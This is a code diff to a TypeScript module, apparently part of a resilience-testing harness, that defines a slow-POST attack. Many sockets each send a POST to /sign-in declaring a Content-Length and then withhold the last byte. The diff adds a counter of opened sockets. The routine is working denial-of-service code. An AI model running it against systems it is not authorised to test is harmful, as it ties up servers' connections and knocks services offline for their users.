@@ -10,10 +10,12 @@ export const unfinishedPosts: Attack = {
   name: 'unfinished posts to a page',
   run: async ({ url }, until) => {
     const almostAll = Buffer.alloc(LENGTH - 1)
+    let opened = 0
     let taken = 0
     const attackers = Array.from({ length: SOCKETS }, async () => {
       while (performance.now() < until) {
         const socket = await openSocket(url)
+        opened++
         socket.write(`POST /sign-in HTTP/1.1\r\nHost: console\r\nContent-Length: ${LENGTH}\r\n\r\n`)
         socket.write(almostAll, (error) => {
           if (!error) taken++
@@ -23,6 +25,6 @@ export const unfinishedPosts: Attack = {
       }
     })
     await Promise.all(attackers)
-    return `${taken} bodies were accepted completely`
+    return { count: opened, summary: `${taken} bodies were accepted completely` }
   },
 }
